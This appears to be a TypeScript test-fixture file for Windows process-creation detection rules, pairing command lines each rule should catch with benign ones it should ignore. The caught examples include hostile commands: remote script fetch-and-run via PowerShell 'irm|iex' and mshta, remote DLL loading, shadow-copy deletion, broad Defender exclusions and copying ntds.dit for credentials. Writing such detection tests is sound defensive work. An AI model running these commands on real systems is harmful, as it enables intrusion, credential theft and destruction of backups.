import { type Examples, SYSTEM32, start } from './example'

export const WINDOWS_PROCESS: Examples = {
  proc_creation_win_browsers_remote_debugging_hidden: {
    finds: [
      start(
        '\\Chrome\\chrome.exe',
        'chrome.exe --headless --remote-debugging-port=9222',
        `${SYSTEM32}cmd.exe`,
      ),
    ],
    leaves: [
      start(
        '\\Chrome\\chrome.exe',
        'chrome.exe --headless --remote-debugging-port=0',
        'C:\\b\\chromedriver.exe',
      ),
      start('\\Chrome\\chrome.exe', 'chrome.exe --restore-last-session'),
    ],
  },
  proc_creation_win_cmd_susp_remote_output_redirect: {
    finds: [
      start(
        '\\cmd.exe',
        'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1763800000.1 2>&1',
        `${SYSTEM32}wbem\\WmiPrvSE.exe`,
      ),
    ],
    leaves: [
      start('\\cmd.exe', 'cmd.exe /c dir 1> C:\\out.txt 2>&1', `${SYSTEM32}wbem\\WmiPrvSE.exe`),
    ],
  },
  proc_creation_win_renamed_transfer_utility: {
    finds: [
      { ...start('\\u.exe', 'u.exe -o a https://example.com/a'), OriginalFileName: 'curl.exe' },
    ],
    leaves: [
      { ...start('\\curl.exe', 'curl https://example.com/a'), OriginalFileName: 'curl.exe' },
    ],
  },
  proc_creation_win_rundll32_regsvr32_remote_library: {
    finds: [
      start('\\rundll32.exe', 'rundll32.exe \\\\203.0.113.5\\s\\a.dll,Run'),
      start('\\regsvr32.exe', 'regsvr32 /s \\\\files.example.com@SSL\\DavWWWRoot\\a.dll'),
    ],
    leaves: [
      start('\\rundll32.exe', 'rundll32 printui.dll,PrintUIEntry /in /n \\\\10.0.0.5\\printer'),
      start('\\rundll32.exe', 'rundll32.exe davclnt.dll,DavSetCookie files@SSL\\ https://files/'),
      start('\\rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL'),
    ],
  },
  proc_creation_win_sc_susp_service_binary_path: {
    finds: [start('\\sc.exe', 'sc create upd binPath= "cmd.exe /c C:\\a.bat" start= auto')],
    leaves: [start('\\sc.exe', 'sc create agent binPath= "C:\\Program Files\\Agent\\agent.exe"')],
  },
  proc_creation_win_scrcons_susp_child_process: {
    finds: [start('\\cmd.exe', 'cmd /c a.bat', `${SYSTEM32}wbem\\scrcons.exe`)],
    leaves: [start('\\WerFault.exe', 'WerFault.exe -u', `${SYSTEM32}wbem\\scrcons.exe`)],
  },
  proc_creation_win_susp_defender_exclusion_broad: {
    finds: [
      start('\\powershell.exe', 'powershell Add-MpPreference -ExclusionPath C:\\'),
      start('\\powershell.exe', "powershell Add-MpPreference -ExclusionPath 'C:\\' -Force"),
      start('\\powershell.exe', 'powershell Set-MpPreference -ExclusionExtension exe'),
    ],
    leaves: [
      start('\\powershell.exe', 'powershell Add-MpPreference -ExclusionPath "D:\\Databases\\sql"'),
      start('\\powershell.exe', 'powershell Remove-MpPreference -ExclusionPath C:\\'),
    ],
  },
  proc_creation_win_susp_domain_trust_enumeration: {
    finds: [
      start('\\nltest.exe', 'nltest /domain_trusts /all_trusts'),
      start('\\nltest.exe', 'nltest -domain_trusts'),
      start('\\a.exe', 'a.exe -f (objectcategory=trusteddomain)'),
    ],
    leaves: [start('\\nltest.exe', 'nltest /sc_query:example.com')],
  },
  proc_creation_win_susp_recovery_inhibition: {
    finds: [
      start('\\vssadmin.exe', 'vssadmin.exe Delete Shadows /All /Quiet'),
      start('\\vssadmin.exe', 'vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB'),
      start('\\wbem\\WMIC.exe', 'wmic shadowcopy delete'),
      start('\\wbadmin.exe', 'wbadmin delete catalog -quiet'),
      start('\\bcdedit.exe', 'bcdedit /set {default} recoveryenabled No'),
    ],
    leaves: [
      start('\\vssadmin.exe', 'vssadmin list shadows'),
      start('\\bcdedit.exe', 'bcdedit /set {default} recoveryenabled Yes'),
    ],
  },
  proc_creation_win_susp_run_dialog_web_script: {
    finds: [
      start('\\mshta.exe', 'mshta https://example.com/verify', 'C:\\Windows\\explorer.exe'),
      start(
        '\\powershell.exe',
        'powershell -w h "irm https://example.com/a|iex"',
        'C:\\Windows\\explorer.exe',
      ),
    ],
    leaves: [
      start('\\powershell.exe', 'powershell -File C:\\a.ps1', 'C:\\Windows\\explorer.exe'),
      start('\\powershell.exe', 'powershell "irm https://example.com/a|iex"', `${SYSTEM32}cmd.exe`),
    ],
  },
  proc_creation_win_susp_shadow_copy_credential_store_read: {
    finds: [
      start(
        '\\cmd.exe',
        'cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit c:\\a',
      ),
    ],
    leaves: [start('\\cmd.exe', 'cmd /c dir C:\\Windows\\NTDS\\ntds.dit')],
  },
  proc_creation_win_susp_web_server_child_shell: {
    finds: [
      start('\\cmd.exe', 'cmd.exe /c whoami', `${SYSTEM32}inetsrv\\w3wp.exe`),
      start('\\whoami.exe', 'whoami', 'C:\\xampp\\apache\\bin\\httpd.exe'),
    ],
    leaves: [
      start('\\cmd.exe', 'cmd.exe /c whoami'),
      start('\\WerFault.exe', 'WerFault.exe -u', `${SYSTEM32}inetsrv\\w3wp.exe`),
      start(
        '\\cmd.exe',
        'cmd.exe /c "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\a.cmdline"',
        `${SYSTEM32}inetsrv\\w3wp.exe`,
      ),
    ],
  },
  proc_creation_win_office_susp_script_host_child: {
    finds: [
      start(
        '\\wscript.exe',
        'wscript.exe C:\\Users\\a\\AppData\\Local\\Temp\\a.js',
        'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      ),
      start('\\mshta.exe', 'mshta a.hta', 'C:\\Office\\outlook.exe'),
    ],
    leaves: [
      start('\\splwow64.exe', 'splwow64.exe 12288', 'C:\\Office\\WINWORD.EXE'),
      start('\\wscript.exe', 'wscript.exe logon.vbs', 'C:\\Windows\\explorer.exe'),
      start(
        '\\cmd.exe',
        'cmd /c C:\\Windows\\System32\\spool\\drivers\\x64\\3\\a.exe',
        'C:\\Office\\EXCEL.EXE',
      ),
    ],
  },
}
